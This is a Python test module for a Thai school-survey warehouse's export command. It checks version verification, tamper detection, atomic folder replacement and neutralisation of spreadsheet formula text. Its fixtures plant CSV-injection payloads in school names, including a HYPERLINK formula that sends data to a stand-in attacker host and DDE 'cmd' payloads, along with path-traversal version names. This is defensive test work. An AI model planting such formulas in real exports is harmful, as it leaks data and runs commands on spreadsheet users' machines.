"""OBEC export safety (issue 5, points 2 and 6): only verified published versions, formula text
neutralised in both files alike, and an `--out` folder replaced whole or not at all.

Real roots throughout: the small warehouse of `test_export.build_tables` published with `publish()`,
copied with shutil and tampered with the way the tester did (DuckDB `COPY ... TO` over a snapshot).
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import duckdb
import openpyxl
import polars as pl
import pytest
from test_export import SURVEY, build_tables

from pipelines.cli import main
from pipelines.config import Home
from warehouse.contracts import get
from warehouse.export import ExportError, export_obec, neutralised
from warehouse.export.folder import write_folder
from warehouse.publish import current_version, publish

CONTRACT = get(SURVEY)
PERIOD = 2569
CSV, XLSX = f"{SURVEY}_{PERIOD}.csv", f"{SURVEY}_{PERIOD}.xlsx"
NAME_HEADER = CONTRACT.column("school_name").header_th
ROOMS_HEADER = CONTRACT.column("dltv_classrooms").header_th

# Formula text a school could type into a free-text cell, by the school code whose row carries it.
PLANTED = {
    "1058010001": '=HYPERLINK("http://evil.example/?d="&A1,"ดูรายละเอียด")',
    "1058010002": "=cmd|' /C calc'!A0",
    "1058010003": "+SUM(1,2)",  # (a phone number here would now stop the publish: warehouse/pii_scan.py)
    "1058010004": "@SUM(1+1)*cmd|' /C calc'!A0",
    "1058010005": "\t=1+1",
}
NEGATIVE_ROOMS = "1058010002"  # a negative number is a number: never prefixed


def _csv(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def _xlsx(path: Path) -> list[tuple]:
    return list(openpyxl.load_workbook(path).worksheets[0].iter_rows(values_only=True))


def _copy_root(src: Home, dst: Path) -> Home:
    shutil.copytree(src.root, dst)
    return Home(dst)


def _writable(path: Path) -> Path:
    path.chmod(0o644)  # published files are read-only; the tester (or an intruder) can still change that
    return path


@pytest.fixture(scope="module")
def small(tmp_path_factory) -> Home:
    """The small published warehouse (v0001); tests that change it work on a copy."""
    h = Home(tmp_path_factory.mktemp("small"))
    publish(h, build_tables(), run_id="test-run")
    return h


@pytest.fixture
def root(small, tmp_path) -> Home:
    return _copy_root(small, tmp_path / "root")


# --- point 2: only a verified, published version is exported -------------------------------------

@pytest.mark.parametrize("version, message", [
    ("../x", r"'\.\./x' ไม่ใช่ชื่อรุ่น.* / .*not a warehouse version name"),
    ("../versions/v0001", "ไม่ใช่ชื่อรุ่น.* / .*not a warehouse version name"),
    ("v1", "ไม่ใช่ชื่อรุ่น.* / .*not a warehouse version name"),
    ("", "ไม่ใช่ชื่อรุ่น.* / .*not a warehouse version name"),
    ("v9999", "v9999 ไม่เคยเผยแพร่.* / .*v9999 was never published"),
])
def test_version_must_be_a_published_version_name(small, tmp_path, version, message):
    with pytest.raises(ExportError, match=message):
        export_obec(small, SURVEY, PERIOD, tmp_path / "out", version=version)
    assert not (tmp_path / "out").exists()


def test_an_absolute_path_is_not_a_version(small, tmp_path):
    path = str(small.versions / current_version(small))  # a real, published folder, named by path
    with pytest.raises(ExportError, match="ไม่ใช่ชื่อรุ่น.* / .*not a warehouse version name"):
        export_obec(small, SURVEY, PERIOD, tmp_path / "out", version=path)
    assert not (tmp_path / "out").exists()


def test_an_orphan_version_is_refused(root, tmp_path):
    """A version folder complete on disk but never named by the ledger (a killed run's leftover)."""
    orphan = root.versions / "v0002"
    shutil.copytree(root.versions / "v0001", orphan)
    manifest = json.loads(_writable(orphan / "manifest.json").read_text(encoding="utf-8"))
    (orphan / "manifest.json").write_text(json.dumps({**manifest, "version": "v0002"}), encoding="utf-8")
    with pytest.raises(ExportError, match="v0002 ไม่เคยเผยแพร่.* / .*v0002 was never published"):
        export_obec(root, SURVEY, PERIOD, tmp_path / "out", version="v0002")
    # The current version is still the published one and still exports.
    assert export_obec(root, SURVEY, PERIOD, tmp_path / "out")["warehouse"]["version"] == "v0001"


def _copy_over_snapshot(h: Home) -> Path:
    """What the tester did: rewrite a snapshot's Parquet in place with DuckDB (every request -> 99)."""
    path = _writable(h.versions / current_version(h) / f"{SURVEY}.parquet")
    tmp = path.with_name("tampered.parquet.part")
    with duckdb.connect() as con:
        con.execute(f"COPY (SELECT * REPLACE (99::BIGINT AS tv_request_replace) FROM read_parquet('{path}')) "
                    f"TO '{tmp}' (FORMAT parquet)")
    tmp.replace(path)
    assert pl.read_parquet(path)["tv_request_replace"].unique().to_list() == [99]
    return path


@pytest.mark.parametrize("version", [None, "v0001"])
def test_a_tampered_snapshot_is_refused(root, tmp_path, version):
    _copy_over_snapshot(root)
    with pytest.raises(ExportError, match=rf"v0001 ถูกแก้ไขหลังเผยแพร่.*{SURVEY}\.parquet.* / .*altered"):
        export_obec(root, SURVEY, PERIOD, tmp_path / "out", version=version)
    assert not (tmp_path / "out").exists()


def test_a_tampered_snapshot_with_a_forged_manifest_is_refused(root, tmp_path):
    """Updating the version's manifest to the new checksum does not help: the ledger holds its sha256."""
    path = _copy_over_snapshot(root)
    manifest_path = _writable(path.parent / "manifest.json")
    manifest = json.loads(manifest_path.read_text(encoding="utf-8"))
    from pipelines.durable import sha256_file
    manifest["tables"][SURVEY]["sha256"] = sha256_file(path)
    manifest_path.write_text(json.dumps(manifest, ensure_ascii=False, indent=2), encoding="utf-8")
    with pytest.raises(ExportError, match="ถูกแก้ไขหลังเผยแพร่.*manifest.json.* / .*altered"):
        export_obec(root, SURVEY, PERIOD, tmp_path / "out")


def test_the_manifest_names_the_verified_snapshot_files(small, tmp_path):
    manifest = export_obec(small, SURVEY, PERIOD, tmp_path / "out")
    version_manifest = json.loads((small.versions / "v0001" / "manifest.json").read_text(encoding="utf-8"))
    used = manifest["warehouse"]["snapshot_sha256"]
    assert set(used) == {SURVEY, f"{SURVEY}_history", "quarantine", "rule_results", "file_accounting"}
    assert all(used[t] == version_manifest["tables"][t]["sha256"] for t in used)


# --- point 6: formula text neutralised, CSV and XLSX alike ------------------------------------------

@pytest.fixture(scope="module")
def planted(tmp_path_factory) -> tuple[Home, Path, dict]:
    """A published version whose school names carry formula text (and one negative number), exported."""
    tables = build_tables()
    eq = tables[SURVEY]
    eq = eq.with_columns(
        school_name=pl.col("school_code").replace_strict(PLANTED, default=pl.col("school_name")),
        dltv_classrooms=pl.when(pl.col("school_code") == NEGATIVE_ROOMS).then(-3).otherwise(pl.col("dltv_classrooms")),
    )
    h = Home(tmp_path_factory.mktemp("planted"))
    publish(h, {**tables, SURVEY: eq}, run_id="planted")
    out = tmp_path_factory.mktemp("planted-export") / "out"
    return h, out, export_obec(h, SURVEY, PERIOD, out)


def test_formula_text_is_neutralised_in_csv_and_xlsx_alike(planted):
    h, out, _ = planted
    csv_rows, xlsx_rows = _csv(out / CSV), _xlsx(out / XLSX)
    header = csv_rows[0]
    code_at, name_at, rooms_at = (header.index(CONTRACT.column(c).header_th)
                                  for c in ("school_code", "school_name", "dltv_classrooms"))
    snap = pl.read_parquet(h.versions / "v0001" / f"{SURVEY}.parquet").filter(
        pl.col("fiscal_year") == PERIOD, pl.col("outcome").is_in(["valid", "flagged"]))
    planted_here = {c: v for c, v in PLANTED.items() if c in set(snap["school_code"])}
    assert len(planted_here) >= 4, "the fixture must plant formula text in exported rows"
    names = {r[code_at]: r[name_at] for r in csv_rows[1:]}
    for code, text in planted_here.items():
        assert names[code] == "'" + text, code
    for c_row, x_row in zip(csv_rows[1:], xlsx_rows[1:], strict=True):  # the same values in both files
        assert [str(v) if v is not None else "" for v in x_row] == c_row
        assert x_row[name_at] == c_row[name_at]
    # Numbers stay numbers, negative ones included: no quote, a number cell in the XLSX.
    rooms = {r[code_at]: r[rooms_at] for r in xlsx_rows[1:]}
    assert rooms[NEGATIVE_ROOMS] == -3 and isinstance(rooms[NEGATIVE_ROOMS], int)
    assert {r[code_at]: r[rooms_at] for r in csv_rows[1:]}[NEGATIVE_ROOMS] == "-3"
    # Names that only contain a trigger character later on are left alone.
    assert all(not n.startswith("'") for c, n in names.items() if c not in planted_here)


def test_the_manifest_says_what_was_neutralised(planted):
    _, out, manifest = planted
    assert json.loads((out / "manifest.json").read_text(encoding="utf-8")) == manifest
    f = manifest["formula_cells_neutralised"]
    csv_names = [r[_csv(out / CSV)[0].index(NAME_HEADER)] for r in _csv(out / CSV)[1:]]
    assert f["cells"] == sum(n.startswith("'") for n in csv_names) >= 4
    assert f["columns"] == [{"name": "school_name", "header_th": NAME_HEADER, "cells": f["cells"]}]
    assert "OWASP" in f["rule_en"] and "'" in f["rule_th"] and "ตัวเลข" in f["rule_th"]


def test_an_export_without_formula_text_says_none_was_neutralised(small, tmp_path):
    f = export_obec(small, SURVEY, PERIOD, tmp_path / "out")["formula_cells_neutralised"]
    assert (f["cells"], f["columns"]) == (0, [])


def test_neutralised_touches_text_cells_only():
    frame = pl.DataFrame({
        "text": ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "a=b", " =x", None, "'=already"],
        "n": [-1, -2, 3, 4, 5, 6, 7, 8, None, 9],
        "f": [-1.5, 0.0, 1.0, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0, None],
    }).with_columns(cat=pl.col("text").cast(pl.Categorical))
    out, counts = neutralised(frame)
    expected = ["'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "a=b", " =x", None, "'=already"]
    assert out["text"].to_list() == expected and out["cat"].to_list() == expected
    assert counts == {"text": 6, "cat": 6}
    assert out["n"].to_list() == frame["n"].to_list() and out["n"].dtype == pl.Int64
    assert out["f"].to_list() == frame["f"].to_list()


# --- point 2: --out is replaced whole, never half-written, never an analyst's folder ---------------

def test_reexport_into_the_same_folder_replaces_it_and_says_so(small, tmp_path):
    out = tmp_path / "obec"
    first = export_obec(small, SURVEY, PERIOD, out)
    before = {n: (out / n).read_bytes() for n in (CSV, XLSX)}
    assert first["replaced"] is None
    second = export_obec(small, SURVEY, PERIOD, out)
    assert second["replaced"] == {
        "files": sorted([CSV, XLSX, "manifest.json"]), "survey": SURVEY, "period": PERIOD,
        "version": "v0001", "exported_at": first["exported_at"], "modified": [],
    }
    assert {n: (out / n).read_bytes() for n in (CSV, XLSX)} == before  # byte-identical re-run
    assert json.loads((out / "manifest.json").read_text(encoding="utf-8")) == second
    assert sorted(p.name for p in tmp_path.iterdir()) == ["obec"]  # no temporary folder left beside it


def test_a_previous_export_edited_after_export_is_reported(small, tmp_path):
    out = tmp_path / "obec"
    export_obec(small, SURVEY, PERIOD, out)
    (out / CSV).write_bytes((out / CSV).read_bytes() + b"edited in Excel\r\n")
    replaced = export_obec(small, SURVEY, PERIOD, out)["replaced"]
    assert replaced["modified"] == [CSV]
    assert b"edited in Excel" not in (out / CSV).read_bytes()


def test_an_empty_existing_folder_is_used(small, tmp_path):
    (tmp_path / "empty").mkdir()
    assert export_obec(small, SURVEY, PERIOD, tmp_path / "empty")["replaced"] is None
    assert (tmp_path / "empty" / CSV).exists()


@pytest.mark.parametrize("extra", ["งบประมาณ 2569 (ร่าง).xlsx", "sub-folder/"])
def test_a_folder_with_other_files_is_refused_and_untouched(small, tmp_path, extra):
    out = tmp_path / "obec"
    export_obec(small, SURVEY, PERIOD, out)
    (out / extra).mkdir() if extra.endswith("/") else (out / extra).write_bytes(b"analyst's own work")
    before = {p.name: p.read_bytes() if p.is_file() else None for p in out.iterdir()}
    with pytest.raises(ExportError, match=r"ไม่ใช่ส่วนหนึ่งของผลการส่งออกครั้งก่อน.*ไม่เขียนทับ.* / .*not part of its "
                                          r"previous export.*nothing overwritten"):
        export_obec(small, SURVEY, PERIOD, out)
    assert {p.name: p.read_bytes() if p.is_file() else None for p in out.iterdir()} == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["obec"]


def test_a_folder_that_is_not_an_export_is_refused(small, tmp_path):
    out = tmp_path / "documents"
    out.mkdir()
    (out / "manifest.json").write_text('{"note": "not an export"}', encoding="utf-8")
    (out / f"{SURVEY}_{PERIOD}.csv").write_text("analyst's own csv", encoding="utf-8")
    with pytest.raises(ExportError, match="ไม่ใช่ผลการส่งออกครั้งก่อน.* / .*not a previous export"):
        export_obec(small, SURVEY, PERIOD, out)
    assert (out / f"{SURVEY}_{PERIOD}.csv").read_text(encoding="utf-8") == "analyst's own csv"


@pytest.mark.parametrize("target", [".", "warehouse", "landing", "lake", "warehouse/versions/v0001",
                                    "warehouse/new", "landing/2569", ".."])
def test_the_data_roots_own_folders_are_refused(root, target):
    out = root.root / target
    before = sorted(str(p) for p in root.root.rglob("*"))
    with pytest.raises(ExportError, match="โฟลเดอร์ของคลังข้อมูล.* / .*data root's own folder"):
        export_obec(root, SURVEY, PERIOD, out)
    assert sorted(str(p) for p in root.root.rglob("*")) == before


def test_a_file_as_out_is_refused(small, tmp_path):
    (tmp_path / "report.xlsx").write_bytes(b"x")
    with pytest.raises(ExportError, match="เป็นไฟล์ ไม่ใช่โฟลเดอร์.* / .*is a file, not a folder"):
        export_obec(small, SURVEY, PERIOD, tmp_path / "report.xlsx")
    assert (tmp_path / "report.xlsx").read_bytes() == b"x"


def test_a_failed_export_leaves_the_previous_one_whole(small, tmp_path):
    """`write_folder` with a writer that dies half-way: the old export stays, nothing temporary remains."""
    out = tmp_path / "obec"
    export_obec(small, SURVEY, PERIOD, out)
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    from warehouse.export.folder import check_target

    _, previous = check_target(small, out)

    def dies_half_way(folder: Path) -> None:
        (folder / CSV).write_bytes(b"half")
        raise OSError("disk full")

    with pytest.raises(OSError, match="disk full"):
        write_folder(out, previous, dies_half_way)
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["obec"]


def test_a_file_added_while_exporting_is_kept_not_deleted(small, tmp_path):
    """A file dropped into --out after it was checked survives the swap, in a visible folder beside it."""
    out = tmp_path / "obec"
    export_obec(small, SURVEY, PERIOD, out)
    from warehouse.export.folder import check_target

    _, previous = check_target(small, out)

    def fill(folder: Path) -> str:
        (out / "late.txt").write_text("dropped in meanwhile", encoding="utf-8")  # after the check
        (folder / CSV).write_bytes(b"new")
        return "done"

    result, kept = write_folder(out, previous, fill)
    assert result == "done" and (out / CSV).read_bytes() == b"new" and not (out / "late.txt").exists()
    assert kept and Path(kept).parent == tmp_path and not Path(kept).name.startswith(".")
    assert [p.name for p in Path(kept).iterdir()] == ["late.txt"]


# --- the CLI: one clear line, exit 2; what a replacement replaced -----------------------------------

def _cli(h: Home, monkeypatch, *args: str) -> int:
    monkeypatch.setenv("KHLANG_HOME", str(h.root))
    return main(["export", "obec", "--survey", SURVEY, "--year", str(PERIOD), *args])


@pytest.mark.parametrize("version", ["../x", "/etc", "v1", "v9999"])
def test_cli_refuses_a_version_in_one_thai_english_line(small, tmp_path, monkeypatch, capsys, version):
    assert _cli(small, monkeypatch, "--out", str(tmp_path / "o"), "--version", version) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and " / " in err
    assert ("ไม่ใช่ชื่อรุ่น" in err or "ไม่เคยเผยแพร่" in err) and "version" in err
    assert not (tmp_path / "o").exists()


def test_cli_refuses_a_tampered_version(root, tmp_path, monkeypatch, capsys):
    _copy_over_snapshot(root)
    assert _cli(root, monkeypatch, "--out", str(tmp_path / "o")) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1 and "ถูกแก้ไขหลังเผยแพร่" in err and "altered after publishing" in err


def test_cli_says_what_a_reexport_replaces_and_what_was_neutralised(planted, tmp_path, monkeypatch, capsys):
    h, _, _ = planted
    out = tmp_path / "o"
    assert _cli(h, monkeypatch, "--out", str(out)) == 0
    first = capsys.readouterr().out
    assert "แทนที่" not in first and "OWASP" in first and NAME_HEADER in first
    assert _cli(h, monkeypatch, "--out", str(out)) == 0
    second = capsys.readouterr().out
    assert f"แทนที่ผลการส่งออกเดิม {SURVEY} ปี {PERIOD} จากคลังฉบับ v0001" in second
    assert "replaced the previous export" in second and CSV in second and XLSX in second
    (out / "notes.txt").write_text("mine", encoding="utf-8")
    assert _cli(h, monkeypatch, "--out", str(out)) == 2
    err = capsys.readouterr().err
    assert "notes.txt" in err and "ไม่เขียนทับ" in err and (out / "notes.txt").exists()
